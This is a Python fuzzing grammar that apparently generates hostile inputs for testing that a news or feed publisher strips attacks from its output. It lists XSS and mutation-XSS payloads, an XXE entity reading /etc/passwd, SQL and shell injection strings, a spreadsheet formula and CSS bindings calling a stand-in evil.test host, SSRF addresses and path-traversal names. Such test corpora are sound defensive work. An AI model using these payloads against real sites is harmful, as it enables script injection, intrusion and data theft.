"""What attacks are made of: a grammar of hostile markup, texts, names and addresses.

Whatever would run calls `alert(PWNED)`; whatever is secret holds SECRET; whatever a template
engine would compute is SUM. None of it may be found in what is published.
"""

import base64
import html
import random

SECRET = "TOPSECRETc0ffee"  # planted to be searched for
SUM = str(31_337 * 1_009)
CALL = "alert(PWNED)"
TEMPLATES = (
    "{{31337*1009}}",
    "{%print(31337*1009)%}",
    "${31337*1009}",
    "<%=31337*1009%>",
    "#{31337*1009}",
)

HANDLERS = (
    "onerror onload onclick onmouseover onfocus onpointerenter onanimationstart ontoggle".split()
)
GAPS = (" ", "/", "\t", "\n", "\x0c", "\r\n", "/ /", "\x00 ", " \xa0 ", "\x0b ")
BEARERS = (
    *(
        "<img src=x {}>",
        "<svg {}>",
        "<body {}>",
        "<details open {}>x</details>",
        "<video src=x {}>",
    ),
    *("<p {}>x</p>", "<a href=x {}>x</a>", "<input autofocus {}>", "<marquee {}>x</marquee>"),
    *("<math {}>", "<x-y tabindex=1 {}>x", "<table {}><td>x", "<style {}></style>", "<img{}src=x>"),
)
URL_BEARERS = (
    *('<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}">x'),
    *('<object data="{}"></object>', '<embed src="{}">', '<link rel=stylesheet href="{}">'),
    *('<base href="{}">', '<area href="{}">', '<button formaction="{}">x</button>'),
    *('<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<svg><use href="{}"/></svg>'),
    *('<svg><animate attributeName=href values="{}"/></svg>', '<math href="{}">x</math>'),
    *('<video poster="{}"></video>', '<audio src="{}"></audio>', '<img srcset="{} 2x">'),
    *(
        '<body background="{}">',
        '<table background="{}"><td>x</table>',
        '<a ping="{}" href=x>x</a>',
    ),
    *('<meta http-equiv=refresh content="0;url={}">', '<blockquote cite="{}">x</blockquote>'),
    *('<link rel=prefetch href="{}">', '<isindex action="{}">', '<frameset><frame src="{}">'),
    *("<a href='{}'>x</a>", "<a href={}>x</a>", '<img src=x longdesc="{}">', '<applet code="{}">'),
    *('<script src="{}"></script>', '<xml src="{}">', '<img lowsrc="{}" dynsrc="{}">'),
)
SCHEMES = ("javascript:", "vbscript:", "data:text/html,", "livescript:", "view-source:javascript:")
STYLES = (
    "background:url(javascript:{})",
    "width:expression({})",
    "-moz-binding:url(//evil.test/x#y)",
    "@import 'javascript:{}'",
    "behavior:url(//evil.test/x.htc)",
    "background:url(//evil.test/p.gif)",
    "b\\61 ckground:u\\72l(javascript:{})",
    "position:fixed;inset:0;z-index:9",
)
MUTATIONS = (
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror={}&gt;">'
    ),
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
    "<!--><img src=x onerror={}>-->",
    "<!--x--!><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>",
    '<xmp><p title="</xmp><img src=x onerror={}>">',
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    '<textarea><a title="</textarea><img src=x onerror={}>">',
    "<plaintext><img src=x onerror={}>",
    "<template><img src=x onerror={}></template>",
    "<select><style></select><img src=x onerror={}></style>",
    '<annotation-xml encoding="text/html"><img src=x onerror={}></annotation-xml>',
    '<title><a title="</title><img src=x onerror={}>">',
    "<p id='\"><img src=x onerror={}>'>",
    '<a title="&quot;&gt;&lt;img src=x onerror={}&gt;">x</a>',
    "<iframe srcdoc='&lt;img src=x onerror={}&gt;'></iframe>",
    (
        "<math><annotation-xml encoding=text/html><style><img src=x onerror={}>"
        "</style></annotation-xml></math>"
    ),
    (
        "<svg><foreignObject><p><style><!--</style><img src=x onerror={}>--></style>"
        "</foreignObject></svg>"
    ),
    "<table><tr><td><svg><desc><table><mglyph><style><img src=x onerror={}>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script\x00>{}</script>",
    "<ScRiPt\n>{}</sCrIpT\t>",
    "<script/x>{}</script >",
    "\ufeff<script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<img src=x onerror&#61;{}>",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<div></div><!-- --!\n><script>{}</script>",
)
TEXTS = (
    *("]]>", "]]><x/>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&xxe;", "<?php system('id')?>"),
    *(
        "<?xml-stylesheet href='javascript:0'?>",
        "\x00",
        "\x01\x1f\x7f",
        "\ufffe\uffff",
        "\u202egnp.exe",
    ),
    *(
        "\u2066x\u2067",
        "\ud800",
        "\udfff\ud800",
        '=HYPERLINK("//evil.test")',
        "@SUM(1)",
        "+cmd|' /C'!A0",
    ),
    *(
        "-2+3",
        "' OR 1=1 --",
        "%_%",
        "\\",
        "'); DROP TABLE articles; --",
        "x" * 70_000,
        "&#x0;&#xD800;",
    ),
    *(
        "&lt;script&gt;",
        "\u2028\u2029",
        "a\x85b",
        "\U000e0041",
        "\u0600" * 40,
        "e" + "\u0301" * 400,
    ),
    *("$(id)", "`id`", "%s%n%x", "\r\nSet-Cookie: a=b", "<a:b xmlns:a='&'>", "--><!--", "\"'><"),
)
NAMES = (
    *("../../etc/passwd", "..", ".", "/", "con", "NUL", "aux.txt", "a/b", ".htaccess", "CNAME"),
    *("%2e%2e%2f", "..\\..\\x", "index.html", "feeds.opml", "articles", "style.css", "feed.atom"),
    *(
        "\u0441uba",
        "cuba ",
        "CUBA",
        "n" * 3_000,
        "_headers",
        "_redirects",
        ".well-known",
        "\u2024\u2024/x",
    ),
    *(
        "a\x00b",
        "~root",
        "-rf",
        "*",
        "?x=1",
        "#",
        "C:\\x",
        "com1",
        "\u202ecod",
        "xn--a",
        "\u00e9/\u0000",
    ),
    *(
        "robots.txt",
        "subscribe.js",
        "icon.svg",
        "2024-03",
        "feed",
        "..%c0%af",
        "\ud83d",
        "\U0001f4a9",
    ),
)
ADDRESSES = (
    f"https://user:{SECRET}@news.example/a",
    f"https://news.example/a?token={SECRET}",
    f"https://news.example/a?api_key={SECRET}&x=1",
    f"https://news.example/a;jsessionid={SECRET}",
    f"https://news.example/a#access_token={SECRET}",
    f"https://{SECRET}:x@news.example:443/",
    f"https://r.example/?u=https%3A%2F%2Fme%3A{SECRET}%40x.example",
    f"https://news.example/?X-Amz-Signature={SECRET}",
    "http://localhost/a",
    "http://127.0.0.1/a",
    "http://[::1]/a",
    "http://169.254.169.254/latest",
    "http://0x7f.1/",
    "http://2130706433/",
    "http://router.lan/",
    "http://10.0.0.1/a",
    "file:///etc/passwd",
    "ftp://x.example/",
    "//evil.test/x",
    "\\\\evil.test\\x",
    "https:evil.test",
    "https://x.example\\@evil.test/",
    "mailto:a@b.example",
    "https://[",
    "https://a.example:99999/",
    "https://\u202eexample.org/",
    "https://a..b/",
    "http://",
    "#",
    "?",
    "https://news.example/" + "a" * 9_000,
    "feed:javascript:alert(PWNED)",
    "blob:https://x.example/1",
    "tel:1",
)


def disguised(rng: random.Random, scheme: str) -> str:
    """A URL that a careless reader takes for harmless."""
    spelt = "".join(rng.choice((char, char.upper())) for char in scheme)
    at = rng.randrange(1, len(spelt))
    ways = (
        scheme,
        spelt,
        rng.choice(" \t\n\x01\x0c") + spelt,
        f"{spelt[:at]}\t{spelt[at:]}",
        f"{spelt[:at]}\n{spelt[at:]}",
        f"&#{ord(spelt[0])};{spelt[1:]}",
        f"&#x{ord(spelt[0]):07x}{spelt[1:]}",
        spelt.replace(":", "&colon;"),
        f"{spelt[:at]}&Tab;{spelt[at:]}",
        f"{spelt[:at]}&NewLine;{spelt[at:]}",
        f"{spelt[:at]}\x00{spelt[at:]}",
        f"\u00a0{spelt}",
        f"\u2028{spelt}",
        f"{spelt[:at]}\u00ad{spelt[at:]}",
        "".join(f"&#{ord(char):05}" for char in spelt),
        spelt.replace(":", "%3A"),
        spelt.replace(":", "\uff1a"),
    )
    return rng.choice(ways) + CALL


def spoken(text: str) -> str:
    """The same without secrets: what an article says in its text is published as it says it."""
    return text.replace(SECRET, "nothing")


def markup(rng: random.Random) -> str:
    """A piece of hostile HTML, maybe within and among more of it."""
    made = rng.choice((_handler, _address, _style, _mutation, _packed))(rng)
    dice = rng.random()
    if dice < 0.15:
        made = made[: rng.randint(len(made) // 2, len(made))]
    elif dice < 0.30:
        made = rng.choice(
            ("<svg>{}</svg>", "<math><mi>{}</mi></math>", "<table>{}", "<b><p><i>{}</b>")
        ).replace("{}", made)
    elif dice < 0.36:
        made = html.escape(spoken(made))
    elif dice < 0.42:
        made = markup(rng) + made
    elif dice < 0.43:
        made = "<div>" * rng.choice((300, 3_000)) + made
    return f"<p>{rng.choice(('Before', 'Vorher', '<b>', ''))} {made}</p> after"


def _handler(rng: random.Random) -> str:
    name = rng.choice(HANDLERS)
    spelt = "".join(rng.choice((char, char.upper())) for char in name)
    quote = rng.choice(("", '"', "'", "`"))
    call = rng.choice((CALL, "".join(f"&#{ord(char)};" for char in CALL), "eval(name)//" + CALL))
    equals = rng.choice(("=", " = ", "\n=", "\x00="))
    said = f"{rng.choice(GAPS)}{spelt}{equals}{quote}{call}{quote}"
    return rng.choice(BEARERS).replace("{}", said)


def _address(rng: random.Random) -> str:
    url = disguised(rng, rng.choice(SCHEMES)) if rng.random() < 0.75 else rng.choice(ADDRESSES)
    return rng.choice(URL_BEARERS).replace("{}", url)


def _style(rng: random.Random) -> str:
    said = rng.choice(STYLES).replace("{}", CALL)
    return rng.choice(
        ("<p style='{}'>x", '<img src=x style="{}">', "<style>p{{}}</style>", "<b style={}>")
    ).replace("{}", said)


def _mutation(rng: random.Random) -> str:
    return rng.choice(MUTATIONS).replace("{}", CALL)


def _packed(rng: random.Random) -> str:
    inner = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
    kind = rng.choice(("text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", ""))
    return rng.choice(URL_BEARERS).replace("{}", f"data:{kind};base64,{inner}")
